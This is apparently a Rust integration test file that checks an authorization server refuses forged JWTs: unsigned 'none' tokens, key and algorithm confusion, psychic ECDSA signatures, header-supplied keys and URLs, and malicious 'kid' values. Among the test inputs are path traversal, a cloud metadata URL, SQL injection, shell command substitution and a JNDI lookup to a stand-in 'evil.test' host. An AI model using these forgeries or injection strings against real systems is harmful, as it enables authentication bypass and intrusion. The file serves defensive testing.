//! JWTs that nobody gave out.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use doorward::protocol::algorithm::Algorithm;
use doorward::secret::{base64url, from_base64url};
use doorward::tokens::{KeySpec, SigningKey};
use serde_json::{Value, json};

use super::{given, given_on};
use crate::support::{Server, forge};

/// In every spelling of `none`, with and without our key's name, with an empty signature under every algorithm: no door takes it.
#[tokio::test]
async fn c1_a_token_without_a_signature_is_none() {
    let given = given().await;
    let claims = given.claims.to_string();
    for alg in ["none", "None", "nOnE", "NONE", "", " ", "null", "RS256", "ES256", "EdDSA", "HS256"] {
        for kid in [json!(forge::kid(&given.server)), json!(""), Value::Null] {
            for typ in ["at+jwt", "application/at+jwt", "JWT"] {
                let mut header = json!({ "alg": alg, "typ": typ, "kid": kid });
                if kid.is_null() {
                    header.as_object_mut().unwrap().remove("kid");
                }
                given.refuses(&forge::unsigned(&header.to_string(), &claims)).await;
            }
        }
    }
    for header in ["{}", "[]", "null", "", "{\"typ\":\"at+jwt\"}", "{\"alg\":null}", "{\"alg\":[\"RS256\"]}"] {
        given.refuses(&forge::unsigned(header, &claims)).await;
    }
    let parts: Vec<&str> = given.access.split('.').collect();
    let pieces = [format!("{}.{}", parts[0], parts[1]), format!("{}.{}.", parts[0], parts[1]), "..".to_owned()];
    for piece in pieces.iter().chain(&[".".to_owned(), format!(".{}.{}", parts[1], parts[2])]) {
        given.refuses(piece).await;
    }
    given.still_holds().await;
}

/// PEM with and without its last line end, DER, PKCS #1, the JWK and its numbers as an HMAC secret: no algorithm takes it.
#[tokio::test]
async fn c2_the_public_key_is_no_shared_secret() {
    let given = given().await;
    let set = given.server.get("/.well-known/jwks.json").await;
    let jwk = set.ok()["keys"][0].clone();
    let mut secrets = forge::writings_of_public_key(&jwk);
    secrets.extend([set.body.clone(), vec![0; 32], jwk["kid"].as_str().unwrap().as_bytes().to_vec()]);
    secrets.extend(from_base64url(jwk["kid"].as_str().unwrap()));
    let claims = given.claims.to_string();
    for secret in secrets {
        for alg in ["HS256", "HS384", "HS512", "hs256", "RS256"] {
            let mut header = forge::access_token_header(&given.server);
            header["alg"] = alg.into();
            given.refuses(&forge::signed_with_hmac(&header.to_string(), &claims, &secret)).await;
        }
    }
    given.still_holds().await;
}

/// Class: the header chooses how to verify: another algorithm than the key's own, another key's name, and the signatures that broken verifiers
/// took (zeros, empty, ones).
#[tokio::test]
async fn c3_the_key_says_which_algorithm_verifies() {
    let given = given().await;
    let claims = given.claims.to_string();
    for alg in ["ES256", "EdDSA", "PS256", "RS384", "RS512", "RSA1_5", "rs256", "RS256 ", "RS256\0", "ES256K"] {
        let mut header = forge::access_token_header(&given.server);
        header["alg"] = alg.into();
        given.refuses(&forge::signed_by(&given.server, &header.to_string(), &claims)).await;
    }
    // "Psychic" signatures (CVE-2022-21449), and the RSA ones of a message that is 0 or 1.
    let header = forge::access_token_header(&given.server);
    for (alg, length) in [("ES256", 64), ("EdDSA", 64), ("RS256", 256), ("RS256", 1), ("ES256", 0)] {
        let mut header = header.clone();
        header["alg"] = alg.into();
        let mut one = vec![0; length];
        if let Some(last) = one.last_mut() {
            *last = 1;
        }
        for signature in [vec![0; length], vec![0xff; length], one] {
            given.refuses(&forge::signed_as(&header.to_string(), &claims, &signature)).await;
        }
    }
    // Another server's key, under its own name and under ours, of every algorithm.
    for algorithm in Algorithm::ALL.iter().copied() {
        let other = SigningKey::generate(KeySpec { algorithm, rsa_bits: 2048 }).unwrap();
        for kid in [other.kid().to_owned(), forge::kid(&given.server)] {
            let header = json!({ "alg": algorithm.as_str(), "typ": "at+jwt", "kid": kid }).to_string();
            given.refuses(&forge::signed_with(&other, &header, &claims)).await;
        }
    }
    given.still_holds().await;
}

/// `jwk`, `jku`, `x5u`, `x5c` are ignored, `crit` is refused whatever it names, and nobody is called: the listener that the token names hears
/// nothing, though the settings would let us call it.
#[tokio::test]
async fn c4_a_header_cannot_bring_its_own_key() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let calls = Arc::new(AtomicUsize::new(0));
    let counted = calls.clone();
    let listening = tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    let given = given_on(Server::with(|config| config.outgoing.allow = vec![address.to_string()]).await).await;
    let claims = given.claims.to_string();
    let own = SigningKey::generate(KeySpec { algorithm: Algorithm::Es256, rsa_bits: 2048 }).unwrap();
    let brought = [
        ("jwk", json!({ "kty": "oct", "k": base64url(b"mine") })),
        ("jwk", json!({ "kty": "EC", "crv": "P-256", "kid": own.kid() })),
        ("jku", json!(format!("http://{address}/jwks.json"))),
        ("x5u", json!(format!("http://{address}/cert.pem"))),
        ("x5c", json!(["AAAA"])),
        ("x5t", json!("AAAA")),
        ("iss", json!(format!("http://{address}"))),
    ];
    for (name, value) in brought {
        for (alg, kid) in [("HS256", forge::kid(&given.server)), ("ES256", own.kid().to_owned())] {
            let mut header = json!({ "alg": alg, "typ": "at+jwt", "kid": kid });
            header[name] = value.clone();
            given.refuses(&forge::signed_with(&own, &header.to_string(), &claims)).await;
            given.refuses(&forge::signed_with_hmac(&header.to_string(), &claims, b"mine")).await;
            header.as_object_mut().unwrap().remove("kid");
            given.refuses(&forge::signed_with_hmac(&header.to_string(), &claims, b"mine")).await;
        }
    }
    // Rightly signed, and still refused: what is critical is not understood here.
    for crit in [json!(["exp"]), json!(["b64"]), json!([]), json!("exp"), json!(["alg"]), json!({})] {
        let mut header = forge::access_token_header(&given.server);
        header["crit"] = crit;
        given.refuses(&forge::signed_by(&given.server, &header.to_string(), &claims)).await;
    }
    // A name twice: which one counts is nobody's to choose.
    let kid = forge::kid(&given.server);
    for header in [
        format!(r#"{{"alg":"none","alg":"RS256","typ":"at+jwt","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"RS256","typ":"at+jwt","typ":"JWT","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"RS256","typ":"at+jwt","kid":"x","kid":"{kid}"}}"#),
    ] {
        given.refuses(&forge::signed_by(&given.server, &header, &claims)).await;
    }
    given.still_holds().await;
    listening.abort();
    assert_eq!(calls.load(Ordering::SeqCst), 0, "somebody was called");
}

/// Paths, SQL, NUL, other types and a megabyte: 401 each, never 500; the database is not asked for a key.
#[tokio::test]
async fn c5_a_kid_is_a_name_in_our_own_ring() {
    let given = given().await;
    let claims = given.claims.to_string();
    let kid = forge::kid(&given.server);
    let before = given.server.app.storage.connections_taken();
    let names = [
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "http://169.254.169.254/latest/meta-data",
        "' OR 1=1--",
        "' UNION SELECT 'x",
        "\0",
        "",
        " ",
        "|id",
        "$(id)",
        "${jndi:ldap://evil.test/x}",
        "é\u{202e}",
        &kid.to_lowercase(),
        &format!("{kid}\0"),
        &format!("{kid} "),
        &format!("../{kid}"),
        &kid[..kid.len() - 1],
    ];
    let odd = [
        json!(["a"]),
        json!([kid]),
        json!(7),
        json!(1e300),
        json!({ "a": 1 }),
        json!(true),
        json!("k".repeat(1 << 20)),
    ];
    for value in names.iter().map(|name| json!(name)).chain(odd) {
        let mut header = forge::access_token_header(&given.server);
        header["kid"] = value;
        let token = forge::signed_by(&given.server, &header.to_string(), &claims);
        let answer = given.client.userinfo(&token).await;
        assert_eq!((answer.status.as_u16(), &answer.json()["error"]), (401, &json!("invalid_token")));
    }
    assert_eq!(given.server.app.storage.connections_taken(), before, "a key was looked for in the database");
    let mut header = forge::access_token_header(&given.server);
    header.as_object_mut().unwrap().remove("kid");
    given.refuses(&forge::signed_by(&given.server, &header.to_string(), &claims)).await;
    given.still_holds().await;
}
